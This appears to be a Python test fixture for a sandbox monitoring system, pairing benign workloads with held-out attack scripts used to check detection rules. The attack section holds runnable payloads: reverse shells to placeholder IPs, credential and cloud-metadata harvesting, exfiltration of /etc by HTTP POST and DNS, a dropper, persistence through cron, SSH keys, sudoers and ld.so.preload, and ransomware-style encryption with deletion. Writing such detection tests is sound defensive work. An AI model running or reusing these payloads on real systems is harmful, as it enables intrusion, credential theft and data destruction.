# SPDX-License-Identifier: Apache-2.0
"""Work and attacks that no threshold was set with. For `run --held-out`: what the rules say about them is published as it is. A rule that
is changed because of what is found here needs new work and new attacks.

Each is a script that runs in a sandbox of its own, as in workloads.py; "$1" (sys.argv[1]) is the number of the run.
"""

SH, PY = ("/bin/bash", "-c"), ("/usr/bin/python3", "-c")

WORK = {
    "first-look": (SH, "uname -a; id; cat /etc/os-release /proc/cpuinfo /proc/meminfo | wc; ls -la ~ / /etc | wc; df -h | wc; mount | wc; env | sort | wc; "
                   "ps aux 2>/dev/null | wc; which gcc make git node python3 perl; python3 -m site | wc; ulimit -a | wc; hostname; date; locale; nproc"),
    "offline-setup": (SH, "python3 -m pip install -q --retries 0 --timeout 1 requests 2>&1 | tail -1; npm install --fetch-retries=0 left-pad 2>&1 | tail -1; "
                      "curl -fsSL -m 2 https://get.example.org/install.sh | sh; git clone -q https://git.example.org/x/y.git 2>&1 | tail -1; "
                      "apt-get -qq update 2>&1 | tail -1; wget -q -t 1 -T 1 https://files.example.org/data.csv; curl -m 1 -d '{\"a\": 1}' https://api.example.org/v1; exit 0"),
    "dotfiles": (SH, "export HOME=$PWD; printf 'alias ll=\"ls -l\"\\nexport PATH=$HOME/bin:$PATH\\n' >> ~/.bashrc; mkdir -p ~/bin ~/.config/git; git config --global user.name a; "
                 "git config --global user.email a@b; echo '*.o' > ~/.config/git/ignore; . ~/.bashrc; echo 'set nu' > ~/.vimrc; chmod 700 ~/bin; ls -la ~ | wc"),
    "split-and-merge": (SH, "seq 1 60000 | shuf --random-source=/bin/ls > n; split -l 150 n part.; ls part.* | xargs -P 4 -n 8 sh -c 'for f; do sort -n \"$f\" -o \"$f\"; done' x; "
                        "sort -nm part.* > all; rm part.*; sort -nc all && wc -l all; join <(seq 100 | sort) <(sort all | head -500) | wc -l; comm -12 <(sort n) <(sort all) | wc -l"),
    "images": (PY, """
import os, random, struct, sys, zlib
r = random.Random(int(sys.argv[1])); os.mkdir("img")
def chunk(k, d): return struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d))
for i in range(250):
    w = h = 24; raw = b"".join(b"\\0" + bytes(r.randrange(256) for _ in range(w * 3)) for _ in range(h))
    with open(f"img/{i}.png", "wb") as f: f.write(b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
for i in range(250): os.rename(f"img/{i}.png", f"img/photo-{i:04}.png")
print(sum(os.path.getsize(f"img/{f}") for f in os.listdir("img")))
"""),
    "log-rotation": (SH, "mkdir log && for i in $(seq 60); do seq $((i * 30)) > log/$i.log; done; for n in 1 2 3; do for i in $(seq 60); do "
                     "[ -e log/$i.log.1.gz ] && mv log/$i.log.1.gz log/$i.log.2.gz; gzip -c log/$i.log > log/$i.log.1.gz; : > log/$i.log; echo $n >> log/$i.log; done; done; "
                     "find log -name '*.2.gz' -delete; zcat log/*.gz | wc -l; ls log | wc -l"),
    "database": (PY, """
import os, sqlite3, sys
d = sqlite3.connect("a.db", isolation_level=None); d.execute("pragma journal_mode=wal"); d.execute("create table t(k integer primary key, v text)")
for n in range(40):
    d.execute("begin"); d.executemany("insert into t(v) values(?)", ((os.urandom(20).hex(),) for _ in range(50))); d.execute("commit" if n % 7 else "rollback")
for step in ("alter table t add column w integer default 0", "create index i on t(v)", "update t set w = length(v)", "delete from t where k % 3 = 0", "vacuum"): d.execute(step)
b = sqlite3.connect("backup.db"); d.backup(b); print(b.execute("select count(*), sum(w) from t").fetchall(), b.execute("pragma integrity_check").fetchall())
e = sqlite3.connect("delete.db", isolation_level=None); e.execute("create table t(a)")
for n in range(120): e.execute("insert into t values(?)", (n,))
"""),
    "parallel-tests": (PY, """
import concurrent.futures, os, shutil, subprocess, sys, tempfile
def one(n):
    d = tempfile.mkdtemp(prefix="case"); p = os.path.join(d, "t.py")
    open(p, "w").write(f"import unittest, os\\nclass T(unittest.TestCase):\\n    def test_a(self):\\n        for i in range(20): open('f%d' % i, 'w').write('x')\\n        self.assertEqual({n} + 1, {n + 1})\\n")
    r = subprocess.run([sys.executable, "-m", "unittest", "-q", "t"], cwd=d, capture_output=True); shutil.rmtree(d); return r.returncode
with concurrent.futures.ThreadPoolExecutor(6) as e: print(sum(e.map(one, range(18))))
"""),
    "openssl": (SH, "command -v openssl >/dev/null || exit 0; mkdir docs && for i in $(seq 40); do seq $i > docs/$i.txt; done; openssl genrsa -out key.txt 2048 2>/dev/null; openssl rsa -in key.txt -pubout -out pub.txt 2>/dev/null; "
                "for i in $(seq 40); do openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in docs/$i.txt -out docs/$i.enc; done; openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:x -in docs/7.enc | diff - docs/7.txt; "
                "openssl dgst -sha256 -sign key.txt -out s docs/1.txt; openssl dgst -sha256 -verify pub.txt -signature s docs/1.txt; openssl rand -base64 300 | base64 -d | wc -c"),
    "rename-extension": (SH, "mkdir p && for i in $(seq 420); do echo $i > p/$i.jpeg; done; for f in p/*.jpeg; do mv \"$f\" \"${f%.jpeg}.jpg\"; done; ls p/*.jpg | wc -l; python3 -c 'import os\nfor f in os.listdir(\"p\"): os.rename(\"p/\" + f, \"p/img_\" + f)'; ls p | head -2"),
    "crawler": (PY, """
import collections, http.server, os, re, sys, threading, urllib.parse, urllib.request
os.mkdir("site"); n = 60 + int(sys.argv[1])
for i in range(n): open(f"site/{i}.html", "w").write("".join(f'<a href="{(i * k + 1) % n}.html">x</a>' for k in range(1, 6)))
class H(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a): super().__init__(*a, directory="site")
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H); threading.Thread(target=s.serve_forever, daemon=True).start()
seen, todo = set(), collections.deque(["1.html"])
while todo:
    u = todo.popleft()
    if u in seen: continue
    seen.add(u); body = urllib.request.urlopen(f"http://127.0.0.1:{s.server_port}/{u}").read().decode(); open("page-" + u, "w").write(body); todo.extend(re.findall('href="([^"]+)"', body))
print(len(seen))
"""),
    "simulation": (PY, """
import multiprocessing, os, random, sys, time
def work(seed):
    os.nice(5); r = random.Random(seed); end = time.time() + 2; n = hit = 0
    while time.time() < end: n += 1; hit += r.random() ** 2 + r.random() ** 2 < 1
    return 4 * hit / n
if __name__ == "__main__":
    os.sched_getaffinity(0)
    with multiprocessing.Pool(4) as p: print(sum(p.map(work, range(4))) / 4)
"""),
    "git-history": (SH, "export HOME=$PWD GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; git init -q r && cd r && for i in $(seq 14); do echo $i >> f; git add f; git commit -qm c$i; done; "
                    "git branch side HEAD~6; git checkout -q side; echo s > s; git add s; git commit -qm s; git rebase -q - 2>&1 | tail -1; git cherry-pick HEAD~1 2>&1 | tail -1; git cherry-pick --abort 2>/dev/null; "
                    "git worktree add -q ../w HEAD~3; git bisect start -q HEAD HEAD~10 >/dev/null; git bisect run sh -c 'test $(wc -l < f) -lt 9' >/dev/null; git bisect reset -q 2>/dev/null; git archive HEAD | tar t | wc -l; git log -p | wc -l; git reflog expire --expire=now --all; git gc -q --prune=now"),
    "clean-up": (SH, "mkdir -p node_modules && for i in $(seq 300); do mkdir node_modules/p$i; for f in a b c d; do echo x > node_modules/p$i/$f.js; done; done; find node_modules -name 'a.js' -mmin -10 -delete; rm -rf node_modules; "
                 "mkdir __pycache__; for i in $(seq 200); do : > __pycache__/$i.pyc; done; find . -name __pycache__ -exec rm -r {} +; ls | wc -l"),
    "background-server": (SH, "nohup python3 -m http.server 8123 >server.log 2>&1 & P=$!; for i in $(seq 20); do sleep 0.2; curl -s localhost:8123/ >/dev/null && break; done; for i in $(seq 30); do curl -s -o o$i http://127.0.0.1:8123/; done; "
                          "curl -s -T o1 http://127.0.0.1:8123/up >/dev/null; curl -s -F f=@o1 http://127.0.0.1:8123/up >/dev/null; kill $P; wait $P 2>/dev/null; wc -l < server.log"),
    "unix-sockets": (PY, """
import multiprocessing.connection as c, os, socket, subprocess, sys, threading
l = c.Listener("s.sock", family="AF_UNIX")
def serve():
    for _ in range(8):
        with l.accept() as k: k.send(k.recv() * 2)
t = threading.Thread(target=serve); t.start()
for i in range(8):
    with c.Client("s.sock", family="AF_UNIX") as k: k.send([i]); k.recv()
t.join(); a, b = socket.socketpair()
p = subprocess.Popen(["/bin/cat"], stdin=a, stdout=subprocess.PIPE); b.sendall(b"hello"); b.shutdown(socket.SHUT_WR); a.close(); print(p.communicate()[0])
"""),
    "c-library": (SH, "mkdir l && cd l && for i in $(seq 12); do echo \"int g$i(int x) { return x * $i; }\" > g$i.c; done; echo 'int g3(int); int main(void) { return g3(2) != 6; }' > t.c; "
                  "gcc -fPIC -shared -O2 -o libg.so g*.c && gcc -o t t.c -L. -lg -Wl,-rpath,. && ./t && gcc -static-libgcc -O0 -g -o t0 t.c g*.c && ./t0; nm -D libg.so | wc -l; objdump -d libg.so 2>/dev/null | wc -l; strip t0; ldd t | wc -l; size t0"),
    "secrets-in-memory": (PY, "import base64, getpass, hashlib, hmac, os, secrets, sys\nk = secrets.token_bytes(32)\nfor i in range(200): hmac.new(k, str(i).encode(), hashlib.sha256).digest()\nprint(base64.b64encode(hashlib.scrypt(b'pw', salt=k, n=4096, r=8, p=1)).decode()[:8], os.getlogin if 0 else getpass.getuser())\n"),
    "script-from-stdin": (SH, "for i in 1 2 3; do echo 'echo $((6 * 7))' | sh; echo 'print(6 * 7)' | python3; printf 'set -e\\ncd /tmp\\nls | wc -l\\n' | bash -s; done; base64 -d <<< aGVsbG8K | cat; echo 'cHJpbnQoMSkK' | base64 -d > x.py; python3 x.py; awk 'BEGIN { system(\"date\") }'"),
    "signals-and-jobs": (SH, "for i in 1 2 3 4 5; do sleep 30 & done; kill -STOP %1; kill -CONT %1; kill %1 %2; trap 'echo usr' USR1; for i in 1 2 3; do kill -USR1 $$; done; kill $(jobs -p) 2>/dev/null; wait; timeout 0.2 sleep 5; "
                         "(sleep 0.1; kill -TERM $BASHPID) ; python3 -c 'import os, signal\nsignal.signal(10, lambda *a: None)\nfor i in range(60): os.kill(os.getpid(), 10)'; exit 0"),
}

CTYPES = "import ctypes, os, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\n"

ATTACKS = {
    "bash-tcp-shell": (SH, "for p in 4444 9001 443; do timeout 1 bash -c \"bash -i >& /dev/tcp/192.0.2.9/$p 0>&1\" 2>/dev/null; done; timeout 1 bash -c 'exec 5<>/dev/tcp/203.0.113.4/8443; cat <&5 | while read l; do $l 2>&5 >&5; done' 2>/dev/null; exit 0"),
    "perl-shell": (SH, "perl -MSocket -e 'socketpair(A, B, AF_UNIX, SOCK_STREAM, 0); if (!fork) { open(STDIN, \"<&B\"); open(STDOUT, \">&B\"); open(STDERR, \">&B\"); exec(\"/bin/sh\", \"-i\") } syswrite(A, \"id; uname -a; exit\\n\"); wait'; exit 0"),
    "cloud-metadata": (SH, "for u in http://169.254.169.254/latest/meta-data/iam/security-credentials/ http://169.254.169.254/computeMetadata/v1/ http://100.100.100.200/latest/meta-data/ http://192.0.0.192/opc/v2/; do curl -s -m 1 -H 'Metadata: true' $u; done; curl -s -m 1 -X PUT http://169.254.169.254/latest/api/token; exit 0"),
    "key-walk": (PY, "import os\nfor r, d, f in os.walk('/'):\n    if r.startswith(('/proc', '/sys', '/usr')): d[:] = []; continue\n    for n in f:\n        if n in ('shadow', 'gshadow', 'id_rsa', 'id_ed25519', '.netrc', '.pgpass', 'credentials', 'config.json', '.env'):\n            try: open(os.path.join(r, n)).read()\n            except OSError: pass\nfor p in ('/etc/gshadow', '/root/.netrc', '/home/user/.ssh/id_ed25519'):\n    try: open(p).read()\n    except OSError: pass\n"),
    "docker-escape": (SH, "curl -s -m 1 --unix-socket /var/run/docker.sock http://x/containers/json; mknod d b 8 0; debugfs /dev/sda1 2>&1 | head -1; mkdir c; mount -t cgroup -o memory x c; nsenter -t 1 -m -u -n -i sh -c id; echo '|/x' > /proc/sys/kernel/core_pattern; fdisk -l 2>&1 | head -1; capsh --print 2>/dev/null | head -2; exit 0"),
    "memfd-script": (PY, "import os\nfd = os.memfd_create('s')\nos.write(fd, b'import os; print(os.getpid())')\nif os.fork() == 0: os.execv('/usr/bin/python3', ['python3', '/proc/self/fd/%d' % fd]) if os.set_inheritable(fd, True) is None else 0\nos.wait()\n"),
    "exploit-primitives": (PY, CTYPES + "for n, a in ((323, (0,)), (321, (5, 0, 0)), (298, (0, 0, -1, -1, 0)), (272, (0x10000000,)), (155, (b'.', b'.')), (304, (-1, 0, 0)), (425, (8, 0)), (250, (0, -5, 1)), (135, (0x0040000,)), (173, (0,)), (172, (3,))):\n    libc.syscall(n, *a)\n"),
    "encrypt-and-remove": (PY, "import hashlib, os\nos.mkdir('d')\nfor i in range(800): open('d/%d.doc' % i, 'w').write('text ' * 80)\nk = os.urandom(16)\nfor n in os.listdir('d'):\n    b = open('d/' + n, 'rb').read(); s = hashlib.shake_256(k + n.encode()).digest(len(b))\n    open('d/' + n + '.enc', 'wb').write(bytes(x ^ y for x, y in zip(b, s))); os.unlink('d/' + n)\nopen('HOW_TO_DECRYPT.txt', 'w').write('pay')\n"),
    "overwrite-and-remove": (SH, "mkdir d; for i in $(seq 450); do seq 40 > d/$i; done; for f in d/*; do dd if=/dev/zero of=$f bs=100 count=1 conv=notrunc status=none; rm $f; done"),
    "short-miner": (PY, "import hashlib, multiprocessing, os, time\ndef work(_):\n    end = time.time() + 2; n = 0\n    while time.time() < end: hashlib.scrypt(n.to_bytes(8, 'big'), salt=b's', n=256, r=8, p=1); n += 1\nwith multiprocessing.Pool(os.cpu_count()) as p: p.map(work, range(os.cpu_count()))\n"),
    "udp-sweep": (PY, "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(1, 60):\n    for port in (53, 123, 161, 1900):\n        try: s.sendto(b'x', ('198.51.100.%d' % i, port))\n        except OSError: pass\n"),
    "dns-exfiltration": (PY, "import os, socket\nfor i in range(60):\n    try: socket.getaddrinfo(os.urandom(24).hex() + '.' + os.urandom(12).hex() + '.c2.example.net', 80)\n    except OSError: pass\n"),
    "cron-and-units": (SH, "(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.x') | crontab - 2>&1; mkdir -p ~/.config/systemd/user ~/.config/autostart; printf '[Service]\\nExecStart=/tmp/.x\\n' > ~/.config/systemd/user/dbus.service; echo '/tmp/.x &' >> ~/.profile; echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys; echo /tmp/x.so > /etc/ld.so.preload; echo 'x ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x; exit 0"),
    "memory-scraper": (PY, "import os, re\nk = os.fork()\nif k == 0:\n    s = 'password=hunter2' * 10; import time; time.sleep(1); os._exit(0)\nfor p in [x for x in os.listdir('/proc') if x.isdigit()]:\n    try:\n        m = open('/proc/%s/maps' % p).read(); f = open('/proc/%s/mem' % p, 'rb', 0)\n        for a in re.findall(r'^([0-9a-f]+)-([0-9a-f]+) rw', m, re.M)[:20]: f.seek(int(a[0], 16)); f.read(4096)\n    except OSError: pass\nos.kill(k, 9); os.wait()\n"),
    "audit-library": (SH, "printf '#include <stdlib.h>\\nunsigned la_version(unsigned v) { return v; }\\n__attribute__((constructor)) static void f(void) { if (!getenv(\"X\")) { setenv(\"X\", \"1\", 1); unsetenv(\"LD_AUDIT\"); system(\"id >/dev/null\"); } }\\n' > a.c; gcc -shared -fPIC -o a.so a.c; LD_AUDIT=$PWD/a.so perl -e 1; LD_PRELOAD=./a.so git --version >/dev/null; exit 0"),
    "post-to-address": (SH, "tar cf - /etc 2>/dev/null | gzip > loot.gz; wget -q -t 1 -T 1 --post-file=loot.gz http://203.0.113.50/u; curl -s -m 1 -F f=@loot.gz http://203.0.113.51:8080/u; curl -s -m 1 --data-binary @loot.gz http://203.0.113.52/u; exit 0"),
    "python-dropper": (PY, "import os, subprocess, urllib.request\nfor h in ('192.0.2.44', '192.0.2.45'):\n    try: open('p', 'wb').write(urllib.request.urlopen('http://%s/p' % h, timeout=1).read())\n    except OSError: pass\nopen('p', 'w').write('#!/bin/sh\\nid >/dev/null\\n'); os.chmod('p', 0o755)\nsubprocess.run(['./p'])\n"),
    "jittered-beacon": (PY, "import random, socket, time\nfor i in range(14):\n    s = socket.socket(); s.settimeout(0.1)\n    try: s.connect(('203.0.113.99', 8443))\n    except OSError: pass\n    s.close(); time.sleep(0.25 * random.uniform(0.9, 1.1))\n"),
    "kill-everything": (PY, "import os\nfor n in range(3):\n    for p in range(2, 300):\n        try: os.kill(p, 15 if p not in (os.getpid(), os.getppid()) else 0)\n        except OSError: pass\n"),
    "setuid-and-raw": (SH, "cp /bin/bash b; chmod 4755 b; ./b -p -c id; python3 -c 'import socket\nfor a in ((2, 3, 1), (17, 3, 768), (2, 3, 6)):\n    try: socket.socket(*a)\n    except OSError: pass'; ping -c 1 -W 1 192.0.2.1; su -c id </dev/null; unshare -Ur id; exit 0"),
}
